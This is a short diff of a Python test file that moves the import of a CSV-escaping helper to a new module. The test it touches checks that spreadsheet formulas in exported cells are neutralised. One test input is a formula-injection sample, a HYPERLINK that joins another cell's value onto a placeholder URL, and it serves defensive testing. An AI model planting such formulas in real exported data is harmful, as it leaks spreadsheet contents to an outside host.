@@ -120,7 +120,7 @@ def test_export_command_without_database(
 
 
 def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
-    from imaging_triage.review.export import spreadsheet_safe
+    from imaging_triage.csvsafe import spreadsheet_safe
 
     assert spreadsheet_safe('=HYPERLINK("http://x/"&A2)') == '\'=HYPERLINK("http://x/"&A2)'
     assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
